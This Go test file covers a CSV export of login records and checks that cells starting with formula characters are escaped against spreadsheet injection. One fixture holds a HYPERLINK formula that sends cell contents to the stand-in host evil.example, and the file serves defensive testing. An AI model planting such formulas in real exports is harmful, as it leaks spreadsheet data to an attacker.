package main

import (
	"bytes"
	"context"
	"errors"
	"testing"
	"time"

	"github.com/riskcloud-go/riskcloud"
	"github.com/riskcloud-go/riskcloud/riskcloudtest"
	"go.uber.org/goleak"
)

func TestMain(m *testing.M) {
	goleak.VerifyTestMain(m)
}

func TestRun(t *testing.T) {
	t.Parallel()
	since := time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)
	login := func(d time.Duration, addr, msg string) riskcloud.Entry {
		return riskcloud.Entry{Type: riskcloud.Login, Timestamp: since.Add(d), RemoteAddress: addr, Message: msg}
	}
	srv := riskcloudtest.NewServer()
	t.Cleanup(srv.Close)
	srv.Add(
		login(41*time.Minute, "192.0.2.10", ""),
		login(40*time.Minute+123*time.Millisecond, `=HYPERLINK("http://evil.example/?"&A1,"help")`, ""),
		login(39*time.Minute, "+1-555-0100", "-2+3"),
		login(38*time.Minute, "@SUM(A1:A9)", "\tindented"),
		login(37*time.Minute, "\r=1+1", "said \"hi\", then left"),
		riskcloud.Entry{Type: riskcloud.LoginFail, Timestamp: since.Add(36 * time.Minute), RemoteAddress: "203.0.113.7", Message: "Bad credentials"},
		login(0, "2001:db8::1", ""),
		login(-time.Millisecond, "192.0.2.99", ""), // before since: not exported
	)

	var out bytes.Buffer
	if err := run(context.Background(), srv.Client(), &out, since); err != nil {
		t.Fatal(err)
	}
	want := "timestamp,remote_address,type,message\n" +
		"2026-11-25T09:41:00.000Z,192.0.2.10,Login,\n" +
		`2026-11-25T09:40:00.123Z,"'=HYPERLINK(""http://evil.example/?""&A1,""help"")",Login,` + "\n" +
		"2026-11-25T09:39:00.000Z,'+1-555-0100,Login,'-2+3\n" +
		"2026-11-25T09:38:00.000Z,'@SUM(A1:A9),Login,'\tindented\n" +
		"2026-11-25T09:37:00.000Z,\"'\r=1+1\",Login,\"said \"\"hi\"\", then left\"\n" +
		"2026-11-25T09:00:00.000Z,2001:db8::1,Login,\n"
	if got := out.String(); got != want {
		t.Errorf("output:\n%q\nwant:\n%q", got, want)
	}
}

func TestRun_forbidden(t *testing.T) {
	t.Parallel()
	srv := riskcloudtest.NewServer(riskcloudtest.WithoutAdmin())
	t.Cleanup(srv.Close)

	err := run(context.Background(), srv.Client(), &bytes.Buffer{}, time.Time{})
	if !errors.Is(err, riskcloud.ErrForbidden) {
		t.Errorf("err = %v, want ErrForbidden", err)
	}
}

func TestCell(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"", ""},
		{"192.0.2.10", "192.0.2.10"},
		{"2001:db8::1", "2001:db8::1"},
		{"Bad credentials", "Bad credentials"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
	}
	for _, tt := range tests {
		if got := cell(tt.in); got != tt.want {
			t.Errorf("cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
